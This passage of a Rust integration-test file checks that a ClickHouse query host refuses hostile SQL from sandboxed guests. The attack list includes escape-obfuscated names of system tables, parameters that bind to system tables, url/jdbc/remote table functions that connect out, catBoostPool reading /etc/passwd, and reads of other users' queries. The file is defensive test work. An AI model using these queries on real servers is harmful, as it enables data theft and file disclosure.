            &sha256_hex(default_password),
        );
    let clickhouse = ClickHouse::start_with(common::clickhouse::Setup {
        users: Some(&users),
        config: Some(include_str!("../deploy/clickhouse/wasmhouse-server.xml")),
        default_password: Some(default_password),
        ..Default::default()
    });
    for setup in [
        "CREATE DATABASE analytics",
        "CREATE TABLE analytics.events (id UInt64) ENGINE = Memory",
        "INSERT INTO analytics.events VALUES (1), (2), (3)",
        "CREATE DATABASE secret",
        "CREATE TABLE secret.keys (key String) ENGINE = Memory",
        "INSERT INTO secret.keys VALUES ('hunter2')",
    ] {
        clickhouse.query(setup);
    }
    (clickhouse, DEDICATED_PASSWORD)
}

/// A host on the hostile guest as the dedicated account of `clickhouse`.
fn dedicated_host(clickhouse: &ClickHouse) -> Wasmhouse {
    let guest = guests::hostile(1);
    HostBuilder::new(clickhouse)
        .args(&["--component", guest.to_str().expect("UTF-8 path")])
        .env("CLICKHOUSE_USER", "wasmhouse")
        .env("CLICKHOUSE_PASSWORD", DEDICATED_PASSWORD)
        .env("CLICKHOUSE_DATABASE", "analytics")
        .start_in_process()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dedicated_user_cannot_read_databases_it_was_not_given() {
    let (clickhouse, password) = dedicated_clickhouse();
    // The account itself, straight to ClickHouse: no way into `secret`.
    let (status, body) = clickhouse.query_as("wasmhouse", password, "SELECT * FROM secret.keys");
    assert_ne!(status, 200, "{body}");
    // Nor as `default` without its password, nor through a test cluster.
    let (status, body) = clickhouse.query_as("default", "", "SELECT 1");
    assert_ne!(status, 200, "{body}");
    // Nor as Debian's `readonly` user, which had no password either.
    let (status, body) = clickhouse.query_as("readonly", "", "SELECT * FROM secret.keys");
    assert_ne!(status, 200, "{body}");
    let (status, body) =
        clickhouse.query_as("wasmhouse", password, "SELECT count() FROM system.clusters");
    assert_eq!((status, body.trim()), (200, "0"), "{body}");

    let host = dedicated_host(&clickhouse);
    let events = sql(&host, "", "SELECT count() FROM events", &[]).await;
    assert_eq!(events.status, 200, "{}", events.text);
    assert_eq!(events.json["result"], "3\n");
    let numbers = sql(
        &host,
        "",
        "SELECT count() FROM (SELECT number FROM system.numbers LIMIT 10)",
        &[],
    )
    .await;
    assert_eq!(numbers.status, 200, "{}", numbers.text);
    for attack in [
        "SELECT * FROM secret.keys",
        "SELECT * FROM `secret`.`keys`",
        "SELECT * FROM analytics.events AS e, secret.keys AS k",
    ] {
        let reply = sql(&host, "", attack, &[]).await;
        assert_refused(&reply, attack);
        assert!(!reply.text.contains("hunter2"), "{attack}: {}", reply.text);
    }
    // Not even the names of its tables are shown.
    let listing = sql(&host, "", "SHOW TABLES FROM secret", &[]).await;
    assert!(!listing.text.contains("keys"), "{}", listing.text);

    // The built-in routes work under this account too.
    let builtin = HostBuilder::new(&clickhouse)
        .env("CLICKHOUSE_USER", "wasmhouse")
        .env("CLICKHOUSE_PASSWORD", password)
        .env("CLICKHOUSE_DATABASE", "analytics")
        .start_in_process();
    for path in [
        "/concurrent/simple-query",
        "/concurrent/heavy-query",
        "/clickhouse-status",
        "/concurrent/test-isolation?delay=0",
    ] {
        let reply = get(&builtin.url(path)).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.text);
    }
}

/// Round two: attacks on the host's reading of SQL (escapes in names,
/// parameters that become names, names no deny-list had, ways around
/// `readonly`). Each is a class the host closes by design: one lexer that
/// reads as ClickHouse does, the check on the bound text, allow-lists, and
/// ClickHouse's `readonly` behind it.
fn round_two_attacks(at: SocketAddr, tcp_port: u16) -> Vec<(String, Vec<(&'static str, String)>)> {
    let none = Vec::new;
    let param = |name: &'static str, value: &str| vec![(name, value.to_owned())];
    vec![
        // 1. Escapes in quoted names: ClickHouse decodes them.
        ("SELECT query FROM system.`pro\\x63esses`".into(), none()),
        ("SELECT query FROM system.\"pro\\x63esses\"".into(), none()),
        ("SELECT query FROM `sys\\x74em`.processes".into(), none()),
        (
            format!("SELECT * FROM `u\\x72l`('http://{at}/a', CSV, 'a String')"),
            none(),
        ),
        (
            format!("SELECT * FROM `url\\N`('http://{at}/b', CSV, 'a String')"),
            none(),
        ),
        // 2. Parameters that become names, checked after binding.
        (
            "SELECT query FROM {t:Identifier}".into(),
            param("param.t", "system.processes"),
        ),
        (
            "SELECT query FROM {d:Identifier}.processes".into(),
            param("param.d", "system"),
        ),
        (
            "SELECT sleep(2) SETTINGS {b:Identifier} = 0".into(),
            param("param.b", "max_execution_time"),
        ),
        (
            format!("SELECT * FROM {{f:Identifier}}('http://{at}/c', CSV, 'a String')"),
            param("param.f", "url"),
        ),
        (
            format!(
                "SELECT {{f:Identifier}}('127.0.0.1', {}, 'system', 'one', 'dummy')",
                at.port()
            ),
            param("param.f", "hasColumnInTable"),
        ),
        // 3. Names a deny-list never had: 18.16's table functions, a scalar
        // function that connects, functions of newer servers, unknown ones.
        (
            format!(
                "SELECT hasColumnInTable('127.0.0.1', {}, 'system', 'one', 'dummy')",
                at.port()
            ),
            none(),
        ),
        (
            "SELECT * FROM catBoostPool('/etc/passwd', '/etc/passwd')".into(),
            none(),
        ),
        (
            "SELECT * FROM shardByHash('test_shard_localhost', 'x')".into(),
            none(),
        ),
        (
            format!("SELECT * FROM jdbc('jdbc:mysql://{at}/', 'db', 't')"),
            none(),
        ),
        (format!("SELECT * FROM odbc('DSN={at}', 'db', 't')"), none()),
        (
            format!("SELECT * FROM remote('127.0.0.1:{tcp_port}', system.processes)"),
            none(),
        ),
        (
            "SELECT * FROM cluster('test_shard_localhost', system.processes)".into(),
            none(),
        ),
        ("SELECT dictGetString('d', 'a', toUInt64(1))".into(), none()),
        ("SELECT getClientHTTPHeader('authorization')".into(), none()),
        ("SELECT someFunctionNoServerHas(1)".into(), none()),
        ("SELECT * FROM system.query_thread_log".into(), none()),
        ("SELECT * FROM system.parts".into(), none()),
        // 4. Around readonly and the settings.
        (
            "SELECT sleep(2) SETTINGS max_execution_time == 0".into(),
            none(),
        ),
        ("SELECT 1 SETTINGS format_schema = 'x'".into(), none()),
        ("SELECT 1".into(), param("setting.format_schema", "x")),
        (
            "SELECT 1".into(),
            param("setting.max_memory_usage_for_user", "0"),
        ),
        // Constructs ClickHouse versions read differently.
        (
            "SELECT 1 /* /* */, (SELECT query FROM system.processes) -- */".into(),
            none(),
        ),
        ("SELECT 'a\\%' AS x".into(), none()),
        ("SELECT 1_000 AS x".into(), none()),
        ("SELECT 1\u{a0}FROM system.processes".into(), none()),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn round_two_attacks_are_refused_in_every_configuration() {
    let tripwire = Tripwire::start();
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let attacks = round_two_attacks(tripwire.addr, clickhouse.tcp_port());
    for prefix in ["", "/relaxed", "/writer"] {
        for (attack, extra) in &attacks {
            let extra: Vec<(&str, &str)> = extra.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let reply = sql(&host, prefix, attack, &extra).await;
            assert_refused(&reply, &format!("{prefix} {attack} {extra:?}"));
        }
    }
    // The production setup of docs/security.md, on its strict route.
    let (dedicated, _) = dedicated_clickhouse();
    let host = dedicated_host(&dedicated);
    for (attack, extra) in round_two_attacks(tripwire.addr, dedicated.tcp_port()) {
        let extra: Vec<(&str, &str)> = extra.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let reply = sql(&host, "", &attack, &extra).await;
        assert_refused(&reply, &format!("dedicated: {attack} {extra:?}"));
    }
    assert_eq!(tripwire.count(), 0, "ClickHouse was made to connect out");
    // Legitimate queries of the same shapes still run.
    for (query, extra) in [
        (
            "SELECT count() FROM {t:Identifier}",
            vec![("param.t", "system.one")],
        ),
        (
            "SELECT number FROM system.numbers LIMIT {n:UInt32}",
            vec![("param.n", "3")],
        ),
        (
            "SELECT sumIf(number, number > 1) FROM (SELECT number FROM system.numbers LIMIT 10)",
            vec![],
        ),
        ("SELECT 'a\\\\%' AS x, 'it''s' AS y", vec![]),
    ] {
        let reply = sql(&host, "", query, &extra).await;
        assert_eq!(reply.status, 200, "{query}: {}", reply.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn another_requests_sql_and_values_stay_its_own() {
    let secret = "victim-secret-4711";
    for dedicated in [false, true] {
        let (clickhouse, _dir, host) = if dedicated {
            let (clickhouse, _) = dedicated_clickhouse();
            let host = dedicated_host(&clickhouse);
            (clickhouse, None, host)
        } else {
            let clickhouse = ClickHouse::start();
            let (host, dir) = hostile_routes(&clickhouse);
            (clickhouse, Some(dir), host)
        };
        let victim_url = reqwest::Url::parse_with_params(
            &host.url("/sql"),
            &[
                ("q", "SELECT sleep(3) AS victim, {s:String} AS s"),
                ("param.s", secret),
            ],
        )
        .expect("URL");
        let victim = tokio::spawn(async move { get(victim_url.as_str()).await });
        clickhouse.wait_for_query("AS victim");
        let tcp = clickhouse.tcp_port();
        let thieves = [
            "SELECT query FROM system.processes".to_owned(),
            "SELECT query FROM system.`pro\\x63esses`".to_owned(),
            "SELECT * FROM merge('system', '^processes$')".to_owned(),
            format!("SELECT * FROM remote('127.0.0.1:{tcp}', system.processes)"),
            "SELECT * FROM cluster('test_shard_localhost', system.processes)".to_owned(),
            "SHOW PROCESSLIST".to_owned(),
            "SELECT query FROM system.query_log".to_owned(),
        ];
        let prefixes: &[&str] = if dedicated {
            &[""]
        } else {
            &["", "/relaxed", "/writer"]
        };
        for prefix in prefixes {
            for thief in &thieves {
                let reply = sql(&host, prefix, thief, &[]).await;
                assert!(
                    !reply.text.contains(secret),
                    "{prefix} {thief} read the victim's query: {}",
                    reply.text
                );
            }
            let bound = sql(
                &host,
                prefix,
                "SELECT query FROM {t:Identifier}",
                &[("param.t", "system.processes")],
            )
            .await;
            assert!(!bound.text.contains(secret), "{}", bound.text);
        }
        let victim = victim.await.expect("victim");
        assert_eq!(victim.status, 200, "{}", victim.text);
        assert!(victim.text.contains(secret), "{}", victim.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_dedicated_users_strict_route_runs_at_readonly_1_with_the_routes_limits() {
    let (clickhouse, _) = dedicated_clickhouse();
    let host = dedicated_host(&clickhouse);
    let settings = "SELECT name, value FROM system.settings WHERE name IN ('readonly', 'max_memory_usage', 'max_threads', 'max_execution_time') ORDER BY name";
    let reply = sql(&host, "", settings, &[]).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let result = reply.json["result"].as_str().expect("result text");
    for expected in [
        "readonly\t1",
        "max_memory_usage\t1073741824",
        "max_threads\t4",
        "max_execution_time\t30",
    ] {
        assert!(result.contains(expected), "{expected:?} not in:\n{result}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_requests_open_results_share_one_server_memory_budget() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    // 16 MiB per query, 32 MiB per request: 16 + 8 MiB, then no more (a
    // query is not started with less than 8 MiB).
    let open = get(&host.url("/small-memory/open-results?n=20")).await;
    assert_eq!(open.status, 200, "{}", open.text);
    assert_eq!(open.json["open"], 2, "{}", open.text);
    assert!(
        open.json["refused"]
            .as_str()
            .is_some_and(|r| r.contains("max_request_memory_usage")),
        "{}",
        open.text
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_misconfigured_account_is_a_503_and_the_log_says_what_to_check() {
    let (clickhouse, _) = dedicated_clickhouse();
    for (what, password, database) in [
        ("a wrong password", "not the password", "analytics"),
        (
            "a database the account may not use",
            DEDICATED_PASSWORD,
            "default",
        ),
        (
            "a database that does not exist",
            DEDICATED_PASSWORD,
            "nowhere",
        ),
    ] {
        let host = HostBuilder::new(&clickhouse)
            .env("CLICKHOUSE_USER", "wasmhouse")
            .env("CLICKHOUSE_PASSWORD", password)
            .env("CLICKHOUSE_DATABASE", database)
            .start();
        let reply = get(&host.url("/concurrent/simple-query")).await;
        assert_eq!(reply.status, 503, "{what}: {}", reply.text);
        assert_eq!(
            reply.json["kind"], "clickhouse_unavailable",
            "{what}: {}",
            reply.text
        );
        assert!(
            !reply.text.contains("wasmhouse@") && !reply.text.contains(password),
            "{what}: {}",
            reply.text
        );
        host.wait_for_log(
            "check CLICKHOUSE_USER, CLICKHOUSE_PASSWORD and CLICKHOUSE_DATABASE",
            Duration::from_secs(10),
        )
        .await;
        // With one server, its status says so too.
        let status = get(&host.url("/clickhouse-status")).await;
        assert_eq!(status.status, 503, "{what}: {}", status.text);
        assert_eq!(
            status.json["replicas"][0]["healthy"], false,
            "{what}: {}",
            status.text
        );
    }
}
